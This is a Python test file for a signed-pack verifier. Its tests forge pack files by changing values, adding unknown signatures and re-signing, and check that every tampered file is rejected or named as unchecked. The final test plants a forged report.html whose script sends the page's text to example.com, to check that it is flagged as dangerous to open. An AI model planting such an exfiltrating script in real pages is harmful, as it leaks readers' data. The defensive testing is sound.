"""Every file of a pack is bound by something outside of it, or named among what could not be checked.

The forger is the trainer: it changes one value of one file, makes the manifest of the pack again, and signs it.
"""

import base64
import copy
import json
import re
from collections.abc import Callable, Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from explorer import run_files, rundir
from explorer.canonical import digest
from explorer.deletion.erase import erase, of_classes
from explorer.disclosure import verifier
from explorer.disclosure.pack import MANIFEST, PAYLOAD_TYPE, SIGNATURE, make_pack
from explorer.entries.kinds import Genesis
from explorer.project import Project, runs_of
from explorer.provenance.envelope import sign_envelope
from explorer.run_files import LoopRecord
from explorer.runlog.run_ledger import RunLedger
from tests.audit import governed_run
from tests.audit.governed_run import TRAINER
from tests.builders import run_record
from tests.deletion import certified
from tests.disclosure.granted import confidential_run, granted
from tests.disclosure.packs import REPORT, Files, findings, governed, manifest_of, opened, packed, signed_again
from tests.disclosure.test_verifier_witnesses import cosigns
from tests.provenance.people import GOVERNANCE, NOW, private
from tests.release import released

TRUST = {"model": released.trust}  # the others are believed under the trust file of governed runs


def bound_run(root: Path) -> Path:
    """A run whose ledger names its run.json and environment.json, cosigned, with a grant."""
    run = confidential_run(root)
    record = replace(run_record(recipe="governed", full_steps=governed_run.STEPS), run_id=run.name)
    recipe = {"task": {"dataset": {"digits": {}}, "model": {"resnet8": {}}}, "methods": []}
    recipe["train"] = {"batch_size": 64, "precision": "fp32"}
    curve = {"recipe": recipe, "hardware": run_files.to_json(record.hardware)}
    record = replace(record, identity={**curve, "ssr": 1.0, "seed": 1}, seed=1, recipe_digest=digest(curve))
    run_files.write(run / rundir.RUN, record)
    rundir.write_bytes(run / rundir.ENVIRONMENT, b'{"torch": "2.13"}\n')
    environment = verifier.sha256((run / rundir.ENVIRONMENT).read_bytes()).hex()

    def name_them(index: int, entry: Any) -> Any:
        named = {"recipe": digest(record.identity), "environment": environment, "seed": 1}
        return replace(entry, **named) if isinstance(entry, Genesis) else entry

    governed_run.sign_again(run, name_them)
    cosigns(run, GOVERNANCE, root / "state")
    return run


def own_loop(root: Path) -> Path:
    """A run of a loop of somebody's own, of which a class was erased."""
    run = governed(root)
    (run / rundir.RUN).unlink()
    plan = LoopRecord(run_id=run.name, identity={"recipe": {"methods": []}, "steps": governed_run.STEPS, "seed": 1})
    run_files.write(run / rundir.LOOP, plan)
    named = digest(plan.identity)
    governed_run.sign_again(run, lambda _, entry: replace(entry, recipe=named) if isinstance(entry, Genesis) else entry)
    ledger = RunLedger(run)
    with Project.open(runs_of(run), key=private(TRAINER), name=TRAINER) as project:
        erase(ledger, of_classes(ledger, (governed_run.MIT,)), project=project)
    return run


@pytest.fixture(scope="module")
def packs(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Files]:
    """Packs that hold a file of every name there is, between them."""
    root = tmp_path_factory.mktemp("bound")
    run = bound_run(root / "whole")
    whole = packed(run, grants={"2026-0007": granted(run)})
    figures = signed_again({**opened(whole.content), "report.json": b'{"format": 3}'})
    deletion = certified.structural(root / "deletion" / "runs")
    rundir.write_bytes(deletion.new / "certificate.json", deletion.content)
    shipped = governed(root / "model")
    released.release(shipped)
    trusting: Any = {"key": private(TRAINER), "trust": released.trust(), "now": NOW}
    model = opened(make_pack(RunLedger(shipped), grants={}, report=REPORT, **trusting).content)
    own = opened(packed(own_loop(root / "own")).content)
    return {"own": own, "whole": figures, "deletion": opened(packed(deletion.new).content), "model": model}


def judged(which: str, files: Files) -> verifier.Findings:
    return findings(files, trust=TRUST.get(which, governed_run.trust)())


def names() -> list[str]:
    """The alternatives of `verifier.NAMES`, as patterns."""
    depth, parts = 0, [""]
    for char in verifier.NAMES.pattern:
        depth += (char == "(") - (char == ")")
        if char == "|" and depth == 0:
            parts.append("")
        else:
            parts[-1] += char
    return parts


def others(value: Any) -> Iterator[Any]:
    """The value with one leaf of it changed, one key more, one element less: each place once."""
    places: list[tuple[Any, ...]] = [()]
    while places:
        place = places.pop()
        found = value
        for key in place:
            found = found[key]
        if isinstance(found, dict):
            places += [(*place, key) for key in found]
            yield changed(value, place, {**found, "more": 1})
            for key in found:
                yield changed(value, place, {name: each for name, each in found.items() if name != key})
        elif isinstance(found, list):
            places += [(*place, at) for at in range(min(len(found), 2))]
            yield changed(value, place, [*found, *found[:1]])
            yield changed(value, place, found[:-1])
        else:
            yield changed(value, place, other(found))


def other(value: Any) -> Any:
    if isinstance(value, bool) or value is None:
        return not value
    return value + 1 if isinstance(value, int | float) else f"{value[:-1]}{'0' if value[-1:] != '0' else '1'}"


def changed(value: Any, place: tuple[Any, ...], new: Any) -> Any:
    made = [copy.deepcopy(value)]
    at, steps = made, (0, *place)
    for key in steps[:-1]:
        at = at[key]
    at[steps[-1]] = new
    return made[0]


def mutations(name: str, content: bytes) -> Iterator[bytes]:
    """Of JSON, every value of it (and of the payload that it carries); of other files, bytes."""
    try:
        value = json.loads(content)
    except ValueError:
        for at in {0, len(content) // 3, len(content) // 2, len(content) - 2} if content else ():
            yield content[:at] + bytes([content[at] ^ 1]) + content[at + 1 :]
        yield content + b"\n"
        if b"\n\n\xe2\x80\x94 " in content:  # a signed note
            yield content + b"\xe2\x80\x94 example.com/stranger AAAAAAAA\n"
        return
    ids = {each["sig"]: each["keyid"] for each in value.get("signatures", ())} if isinstance(value, dict) else {}
    for each in others(value):
        if meaning(each, ids) != meaning(value, ids):
            yield json.dumps(each).encode()


def meaning(value: Any, ids: dict[str, str]) -> Any:
    """A value without what says nothing: defaults of a trust file; in an envelope a signature for the second time, and
    a key id left out."""
    if isinstance(value, list):
        said = [meaning(each, ids) for each in value]
        signatures = said and all(isinstance(each, dict) and "sig" in each for each in said)
        return [each for at, each in enumerate(said) if each not in said[:at]] if signatures else said
    if not isinstance(value, dict):
        return value
    hint = {"keyid": ids[value["sig"]]} if value.get("sig") in ids else {}
    given = {name: each for name, each in value.items() if (name, each) not in (("revoked", None), ("branches", []))}
    return {**hint, **{name: meaning(each, ids) for name, each in given.items()}}


def test_there_is_a_file_of_every_name(packs: dict[str, Files]) -> None:
    every = {name for files in packs.values() for name in files}
    missing = [part for part in names() if not any(re.fullmatch(part, name) for name in every)]
    assert missing == [] and {"loop.json", "run.json", "erasures/0.tlog-proof"} <= every
    for which, files in packs.items():
        found = judged(which, files)
        assert not found.failed, (which, found.failed)


def test_no_sound_file_is_called_loose(packs: dict[str, Files]) -> None:
    """What is listed of a pack as Explorer makes it is what nothing can bind, and no more."""
    found = judged("whole", packs["whole"])
    listed = {name for name in packs["whole"] if any(name in each for each in found.unchecked)}
    assert listed == {"README.txt", "report.html", "report.json", "pack.json", "run.json", "grants/2026-0007.json"}


@pytest.mark.parametrize(
    "which",
    [pytest.param("whole", marks=pytest.mark.slow), "own", "deletion", pytest.param("model", marks=pytest.mark.slow)],
)
@pytest.mark.slow
def test_every_value_of_every_file_is_bound_or_named(packs: dict[str, Files], which: str) -> None:
    files, tried = packs[which], 0
    blobs = [name for name in files if name.startswith("ledger/blobs/")]
    for name in sorted(files.keys() - {MANIFEST, SIGNATURE, *blobs[2:]}):
        for content in [*mutations(name, files[name])][:60]:
            found, tried = judged(which, signed_again({**files, name: content})), tried + 1
            named = any(name in each for each in found.unchecked)
            assert found.failed or named, (name, content[:300])
    assert tried > 100


@pytest.mark.parametrize("which", ["whole"])
def test_every_value_of_the_manifest_and_its_signature_is_bound_or_named(packs: dict[str, Files], which: str) -> None:
    files = packs[which]
    for value in others(manifest_of(files)):
        payload = verifier.canonical(value, "")
        signed = sign_envelope(payload, PAYLOAD_TYPE, [private(TRAINER)]).content
        found = judged(which, {**files, MANIFEST: payload, SIGNATURE: signed})
        assert found.failed or any(MANIFEST in each for each in found.unchecked)
    for content in mutations(SIGNATURE, files[SIGNATURE]):
        found = judged(which, {**files, SIGNATURE: content})
        assert found.failed or any(SIGNATURE in each for each in found.unchecked), content


def strangers(content: bytes) -> bytes:
    """The same document, signed by one whom nobody knows too."""
    value = json.loads(content)
    value["signatures"].append({"keyid": "", "sig": base64.b64encode(bytes(64)).decode()})
    return json.dumps(value).encode()


@pytest.mark.parametrize(
    "name", ["governance/policy.json", "governance/tags.json", "deletions/", "model/attestation.json"]
)
def test_a_signature_of_nobody_is_named_with_its_file(packs: dict[str, Files], name: str) -> None:
    which = {"deletions/": "deletion", "model/attestation.json": "model"}.get(name, "whole")
    full = next(each for each in packs[which] if each.startswith(name))
    found = judged(which, signed_again({**packs[which], full: strangers(packs[which][full])}))
    assert not found.failed
    assert (
        f"{full}: 1 signatures of keys that the trust file does not have: nothing determines these" in found.unchecked
    )


Change = Callable[[dict[str, Any]], object]


@pytest.mark.parametrize(
    ("name", "change", "said"),
    [
        ("run.json", lambda v: v["identity"].update(seed=99), "not the recipe that the genesis names"),
        ("run.json", lambda v: v["identity"]["recipe"]["methods"].append({"x": {}}), "not the recipe that the genesis"),
        ("run.json", lambda v: v.update(seed=99), "seed: found 99, expected 1 by identity and ledger"),
        ("run.json", lambda v: v.update(methods=["label_smoothing"]), "methods: found"),
        ("run.json", lambda v: v.update(run_id="another"), "run_id: found"),
        ("run.json", lambda v: v.update(steps=1), "steps: found"),
        ("run.json", lambda v: v.update(batch_size=1), "batch_size: found"),
        ("run.json", lambda v: v["hardware"].update(name="another"), "hardware: found"),
        ("run.json", lambda v: v.update(model="another"), "model: found"),
        ("run.json", lambda v: v.pop("ssr"), "ssr: found None"),
        ("environment.json", lambda v: v.update(torch="9"), "not the environment that the genesis names"),
    ],
)
def test_the_recipe_and_the_environment_are_the_runs(
    packs: dict[str, Files], name: str, change: Change, said: str
) -> None:
    """The pack of the report: everything sound, and two files that say something else of the run."""
    value = json.loads(packs["whole"][name])
    change(value)
    found = judged("whole", signed_again({**packs["whole"], name: json.dumps(value).encode()}))
    assert any(name in each and said in each for each in found.failed), found.failed


def test_a_recipe_that_is_left_out_is_named_and_two_are_refused(packs: dict[str, Files]) -> None:
    whole, own = packs["whole"], packs["own"]
    for name in ("run.json", "environment.json"):
        less = judged("whole", signed_again({other: content for other, content in whole.items() if other != name}))
        assert not less.failed
        assert any(name in each and "not in the pack" in each for each in less.unchecked)
    both = judged("own", signed_again({**own, "run.json": whole["run.json"]}))
    assert "run.json and loop.json: a run has one of them" in both.failed


def test_a_page_is_called_dangerous_to_open(packs: dict[str, Files]) -> None:
    forged = b"<script>fetch('https://example.com/' + document.body.innerText)</script>"
    found = judged("whole", signed_again({**packs["whole"], "report.html": forged}))
    assert any(each.startswith("report.html: ") and "Do not open it" in each for each in found.unchecked)
